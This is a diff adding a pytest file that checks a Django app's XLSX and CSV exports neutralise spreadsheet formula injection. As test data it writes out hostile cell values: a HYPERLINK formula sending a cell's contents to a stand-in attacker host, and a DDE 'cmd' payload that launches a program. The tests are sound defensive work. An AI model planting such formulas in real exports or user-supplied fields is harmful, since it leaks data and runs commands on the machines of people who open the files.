@@ -1,0 +1,89 @@
+"""Exports cannot carry formulas: every XLSX and CSV the app hands out, filled with names and titles
+an attacker typed, holds them as plain text."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+from openpyxl import load_workbook
+
+from bangkom.accounts.tests.test_role_matrix import MATRIX, POST_ONLY, urls  # noqa: F401 - the fixture
+from bangkom.core.xlsx import FORMULA_STARTS, data_row, neutralised
+from bangkom.people.models import Employee, Unit
+from bangkom.planning.models import PlanItem
+from bangkom.selection.screening_output import csv_text
+
+pytestmark = pytest.mark.django_db
+HYPERLINK = '=HYPERLINK("http://penyerang.example/?d="&A2,"Klik")'
+NAMES_PEOPLE_OR_ITEMS = {"export", "planning_plan_xlsx"}
+SPREADSHEETS = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv")
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+62812", "'+62812"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-", "-"),
+        ("Siti = guru", "Siti = guru"),
+        ("", ""),
+        (-5, -5),
+        (None, None),
+    ],
+)
+def test_neutralised(value: object, expected: object) -> None:
+    assert neutralised(value) == expected
+
+
+def test_data_row_neutralises_each_text_and_keeps_other_values() -> None:
+    assert data_row(["=cmd|' /C calc'!A0", 1, None, "Ani"]) == ["'=cmd|' /C calc'!A0", 1, None, "Ani"]
+
+
+def _live(value: object) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and value not in {"-", "+"}
+
+
+def test_every_spreadsheet_export_holds_hostile_text_as_text(users, urls) -> None:  # noqa: F811
+    Employee.objects.update(name=HYPERLINK)
+    Unit.objects.filter(code="DISDIK").update(name="+Dinas Pendidikan")
+    PlanItem.objects.update(title="@SUM(1+1)*cmd|' /C calc'!A0")
+    client = Client()
+    client.force_login(users["admin"])
+    exported = []
+    for name, url in urls.items():
+        if name in POST_ONLY or MATRIX.get(name, (0,))[0] != 200:
+            continue
+        response = client.get(url)
+        kind = response.get("Content-Type", "").split(";")[0]
+        if response.status_code != 200 or kind not in SPREADSHEETS:
+            continue
+        content = b"".join(response.streaming_content) if response.streaming else response.content
+        exported.append(name)
+        if kind == "text/csv":
+            cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
+        else:
+            workbook = load_workbook(io.BytesIO(content))
+            cells = []
+            for sheet in workbook.worksheets:
+                for row in sheet.iter_rows():
+                    for cell in row:
+                        assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
+                        cells.append(cell.value)
+        assert not [c for c in cells if _live(c)], name
+        if name in NAMES_PEOPLE_OR_ITEMS:  # the hostile text is there, as text
+            assert any(isinstance(c, str) and c.startswith("'") for c in cells), name
+    assert {"export", "planning_plan_xlsx", "planning_evaluation_xlsx", "planning_jp_xlsx"} <= set(exported)
+
+
+def test_screening_csv_neutralises_names() -> None:
+    from bangkom.rules.tests.test_engine import one, person
+
+    rows = list(csv.reader(io.StringIO(csv_text([one(person(name=HYPERLINK))], []))))
+    assert rows[1][1] == "'" + HYPERLINK
